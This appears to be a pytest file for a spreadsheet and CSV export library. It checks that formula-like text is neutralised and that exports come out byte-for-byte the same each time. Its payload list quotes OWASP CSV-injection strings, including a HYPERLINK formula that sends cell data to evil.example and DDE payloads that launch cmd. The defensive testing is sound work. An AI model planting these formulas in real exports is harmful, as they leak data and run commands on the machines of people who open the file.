"""Exports never carry a live formula, and the same rows always give the same bytes."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from lattice.lib.tabular import csv_bytes, safe_cell, xlsx_bytes

# From OWASP's CSV Injection page: each must reach the spreadsheet as inert text.
OWASP_PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_text_that_could_start_a_formula_is_prefixed(payload):
    assert safe_cell(payload) == "'" + payload


def test_numbers_and_dates_stay_what_they_are():
    assert safe_cell(-5) == -5
    assert safe_cell(dt.date(2026, 9, 1)) == dt.date(2026, 9, 1)
    assert safe_cell("Ana-Maria") == "Ana-Maria"


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_no_xlsx_cell_is_a_formula(payload):
    data = xlsx_bytes(["name"], [[payload]], title="t", stamp=dt.datetime(2026, 9, 1))
    sheet = load_workbook(io.BytesIO(data)).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    # Without lxml, openpyxl reads a carriage return back as a line feed; inert text either way.
    assert cell.value in ("'" + payload, "'" + payload.replace("\r", "\n"))


def test_the_same_rows_give_the_same_bytes():
    def make():
        return xlsx_bytes(["a", "b"], [["x", 1]], title="t", stamp=dt.datetime(2026, 9, 1))

    assert make() == make()
    assert csv_bytes(["a"], [["=1"]]) == b"a\r\n'=1\r\n"
